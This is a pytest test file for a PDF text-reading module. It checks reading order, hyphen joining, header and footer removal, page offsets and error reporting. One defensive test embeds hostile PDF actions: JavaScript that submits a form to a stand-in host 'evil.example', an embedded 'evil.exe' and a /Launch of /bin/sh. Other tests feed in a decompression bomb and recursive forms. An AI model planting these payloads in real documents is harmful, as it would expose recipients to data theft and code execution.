"""The text of PDFs: in reading order, whole words, no furniture, with its pages; nothing in them is run or opened."""

import zlib
from collections.abc import Callable
from io import BytesIO
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter

from sayso.errors import ReadError
from sayso.model.report import Capture, Declared, Report
from sayso.read.pdf_layout import Line
from sayso.read.pdf_text import flowing, joined, page_starts, without_furniture
from sayso.read.read import read_capture
from tests.cost import assert_linear
from tests.pdf_file import drawn, lines, pdf, stream

SAID = "The mayor of Ostermark said on Monday that forty people were hurt."
AND = "The governor denied that anybody had been warned before the fire."
LONG = (
    "The mayor of Ostermark said on Monday that forty people were",
    "hurt when a fire broke out at the market in the old town, and",
    "that the number was likely to rise in the days to come.",
)


def report(body: bytes, title: str | None = None) -> Report:
    capture = Capture(
        input_id="a.pdf",
        body=body,
        media_type="application/pdf",
        declared=Declared(title=title),
        collected="2026-05-05T00:00:00+00:00",
        sha256="x",
    )
    return read_capture(capture, ("en",))


def failed(body: bytes) -> ReadError:
    with pytest.raises(ReadError) as caught:
        report(body)
    assert caught.value.item == "a.pdf"
    assert caught.value.remedy
    return caught.value


@pytest.mark.parametrize(
    ("words", "text"),
    [
        ((SAID,), SAID),
        (LONG, " ".join(LONG)),
        ((SAID, "", AND), f"{SAID}\n\n{AND}"),
        ((*LONG, "He left.", AND), f"{' '.join(LONG)} He left.\n\n{AND}"),
        (
            ("He said that the govern-", "ment had been warned in time."),
            "He said that the government had been warned in time.",
        ),
        (
            ("He called it a well-", "known danger, and well-known", "dangers kill."),
            "He called it a well-known danger, and well-known dangers kill.",
        ),
        (("He said that the long-", "term plan was to leave."), "He said that the long-term plan was to leave."),
        (("He said that the north-", "ern road was closed."), "He said that the northern road was closed."),
        (("He met Anna Berg-", "Holm on the road to town."), "He met Anna Berg-Holm on the road to town."),
        (("The toll rose, from 10-", "12 to more than that."), "The toll rose, from 10- 12 to more than that."),
        (("Prices rose by (about) 5\\% he said, and more.",), "Prices rose by (about) 5\\% he said, and more."),
    ],
)
def test_lines_become_paragraphs(words: tuple[str, ...], text: str) -> None:
    assert report(pdf(lines(*words))).text == text


def test_headline_byline_and_title() -> None:
    found = report(pdf(lines("Fire at the market", "", "By Anna Berg", "", SAID)))
    assert (found.title, found.byline, found.text) == ("Fire at the market", ("Anna Berg",), SAID)
    assert report(pdf(lines(SAID), info={"Title": "Fire at the old market"})).title == "Fire at the old market"
    assert report(pdf(lines(SAID), info={"Title": "Microsoft Word - final_v2.docx"})).title is None


def test_the_day_of_printing_is_not_the_day_of_publication() -> None:
    assert report(pdf(lines(SAID), info={"CreationDate": "D:20260504120000Z"})).published is None


def test_headers_footers_and_page_numbers_are_dropped() -> None:
    def page(number: int, *words: str) -> list[tuple[float, float, str]]:
        head = [(60.0, 810.0, "THE SARN POST   4 May 2026")]
        foot = [(60.0, 40.0, f"sarnpost.example   page {number}"), (300.0, 20.0, f"{number}")]
        return head + lines(*words) + foot

    found = report(pdf(page(1, SAID), page(2, AND), page(3, *LONG)))
    assert found.text == f"{SAID}\n\n{AND}\n\n{' '.join(LONG)}"


def test_a_line_that_is_on_one_page_alone_stays() -> None:
    found = report(pdf(lines("12", SAID), lines(AND), lines("About 40 were hurt.", AND)))
    assert "About 40 were hurt." in found.text
    assert not found.text.startswith("12")


@pytest.mark.parametrize(
    ("first", "second", "text"),
    [
        ("He said that the", "road was closed.", "He said that the road was closed."),
        ("He said that the govern-", "ment had been warned.", "He said that the government had been warned."),
        ("He said so.", "She said no.", "He said so.\n\nShe said no."),
    ],
)
def test_a_sentence_goes_on_over_the_page(first: str, second: str, text: str) -> None:
    found = report(pdf(lines(SAID, "", first), lines(second, "", AND)))
    assert found.text == f"{SAID}\n\n{text}\n\n{AND}"


def test_pages_are_kept_as_places() -> None:
    found = report(pdf(lines("Fire at the market", "", SAID), lines(AND, "", *LONG), [], lines(SAID)))
    assert len(found.pages) == 4
    assert [found.text[at : at + 12] for at in found.pages[:2]] == [SAID[:12], AND[:12]]
    assert found.text[found.pages[3] :] == SAID
    assert list(found.pages) == sorted(found.pages)


COLUMNS = (
    [(60.0, 780.0 - 14 * n, f"Left line {n} said the first speaker") for n in range(12)],
    [(330.0, 780.0 - 14 * n, f"Right line {n} said the second one") for n in range(12)],
)


def test_columns_drawn_one_after_the_other() -> None:
    text = report(pdf([*COLUMNS[0], *COLUMNS[1]])).text
    assert text.index("Left line 11") < text.index("Right line 0")


def test_columns_drawn_line_by_line_are_read_column_by_column() -> None:
    both = [line for pair in zip(*COLUMNS, strict=True) for line in pair]
    text = report(pdf(both)).text
    assert text.index("Left line 11") < text.index("Right line 0")
    assert text.index("Right line 3") < text.index("Right line 4")


def test_lines_drawn_from_the_bottom_up_are_read_from_the_top() -> None:
    words = [f"Sentence number {n} was said by the mayor." for n in range(12)]
    found = report(pdf(list(reversed(lines(*words)))))
    assert [found.text.index(one) for one in words] == sorted(found.text.index(one) for one in words)


def encrypted(password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf(lines(SAID)))))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def test_encrypted_ones_say_so_and_open_ones_are_read() -> None:
    assert failed(encrypted("secret")).code == "encrypted"
    assert report(encrypted("")).text == SAID


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (pdf([]), "no_text"),
        (
            pdf(
                b"q 100 0 0 100 0 0 cm /X0 Do Q",
                more=[stream(b"\xff\xd8", "/Type /XObject /Subtype /Image /Width 1 /Height 1")],
            ),
            "no_text",
        ),
        (b"%PDF-1.7\nbroken", "bad_pdf"),
        (b"%PDF-1.7\n%%EOF", "bad_pdf"),
        (pdf(lines(SAID))[:300], "bad_pdf"),
    ],
)
def test_what_cannot_be_read_is_named_with_a_way_out(body: bytes, code: str) -> None:
    assert failed(body).code == code


ACTIONS = (
    "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >> "
    "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\('http://evil.example'\\)) >>] >> "
    "/EmbeddedFiles << /Names [(f) << /Type /Filespec /F (evil.exe) /EF << /F 100 0 R >> >>] >> >> "
    "/AA << /WC << /S /Launch /F (/bin/sh) >> >>"
)


def test_nothing_is_run_or_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    def forbidden(*_: object, **__: object) -> None:
        raise AssertionError

    for name in ("subprocess.Popen", "os.system", "socket.socket", "builtins.open"):
        monkeypatch.setattr(name, forbidden)
    body = pdf(
        lines(SAID),
        catalog=ACTIONS,
        page="/AA << /O << /S /URI /URI (http://evil.example) >> >>",
        more=[stream(b"EMBEDDED WORDS")],
    )
    assert report(body).text == SAID


def nested(depth: int, width: int) -> bytes:
    """Forms that draw forms: each level so many times the next."""

    def form(number: int) -> bytes:
        draw = b" /X0 Do" * width if number < depth - 1 else drawn([(60, 700, "x")])
        inner = f"/Resources << /Font << /F1 3 0 R >> /XObject << /X0 {101 + number} 0 R >> >>"
        return stream(draw, f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {inner}")

    return pdf(b"/X0 Do", more=[form(n) for n in range(depth)])


@pytest.mark.parametrize(
    "body",
    [
        nested(12, 12),
        nested(400, 1),
        pdf(
            b"/X0 Do",
            more=[
                stream(
                    b"/X0 Do",
                    "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 100 0 R >> >>",
                )
            ],
        ),
        pdf(b"q " * 900_000),
        pdf(b"[" * 200_000),
        pdf(b"BT /F1 9 Tf (" + b"a" * 1_000_000 + b") Tj ET"),
        pdf(stream(zlib.compress(b"\0" * 90_000_000))),
        pdf(*[b"BT ET"] * 1_001),
    ],
    ids=["forms in forms", "deep forms", "a form in itself", "operators", "arrays", "a long word", "a bomb", "pages"],
)
def test_hostile_ones_cost_little(body: bytes) -> None:
    began = process_time()
    try:
        report(body)
    except ReadError as error:
        assert error.remedy  # noqa: PT017 - some may be read, none may raise anything else
    assert process_time() - began < 20


def test_a_page_that_draws_too_much_does_not_hide_the_others() -> None:
    found = report(pdf(lines(SAID), b"q " * 400_000, lines(AND)))
    assert found.text == f"{SAID}\n\n{AND}"
    assert found.partial == "of its 3 pages, these are broken or draw too much to be read: 2"


def test_a_page_packed_under_a_name_that_was_given_up_is_a_broken_page() -> None:
    body = pdf(lines(SAID), lines(AND))
    at = body.index(b"/Length", body.index(b"endobj", len(body) // 3))
    renamed = body[:at] + b"/Filter /Fl " + body[at:]
    found = report(renamed)
    assert found.text == SAID
    assert found.partial == "of its 2 pages, these are broken or draw too much to be read: 2"


@given(st.binary(max_size=200), st.integers(0, 1_500))
def test_no_bytes_upset_the_reader(noise: bytes, at: int) -> None:
    body = pdf(lines(SAID, "", AND))
    at = min(at, len(body))
    try:
        found = report(body[:at] + noise + body[at + len(noise) :])
    except ReadError as error:
        assert error.remedy  # noqa: PT017 - the same
    else:
        assert found.text


@given(st.lists(st.tuples(st.floats(0, 600), st.floats(0, 800)), min_size=1, max_size=15))
def test_every_word_drawn_is_read_wherever_it_stands(placed: list[tuple[float, float]]) -> None:
    found = report(pdf([(x, y, f"word{n}word said so.") for n, (x, y) in enumerate(placed)]))
    everything = f"{found.title} {' '.join(found.byline)} {found.text}"
    assert [n for n in range(len(placed)) if f"word{n}word" not in everything] == []


def plain(*words: str) -> list[Line]:
    return [Line(text, 60, 780 - 14 * n, 400, 11, 1.0 if n else 0.0) for n, text in enumerate(words)]


@given(st.lists(st.lists(st.text("abc- .", min_size=1, max_size=20).filter(str.strip), max_size=6), max_size=6))
def test_page_starts_lie_in_order_in_the_text(written: list[list[str]]) -> None:
    pages = [flowing(kept) for kept in without_furniture([plain(*words) for words in written])]
    text = joined(pages)
    starts = page_starts(pages, text)
    assert len(starts) == len(pages)
    assert list(starts) == sorted(starts)
    assert all(0 <= at <= len(text) for at in starts)


def test_cost_grows_with_the_pages() -> None:
    def work_on(count: int) -> Callable[[], object]:
        pages = [
            [Line(f"Line {n} of page {p} said so.", 60, 780 - n, 300, 9, 1.0) for n in range(40)] for p in range(count)
        ]

        def work() -> object:
            flow = [flowing(kept) for kept in without_furniture(pages)]
            return page_starts(flow, joined(flow))

        return work

    assert_linear(work_on, 20, 240)
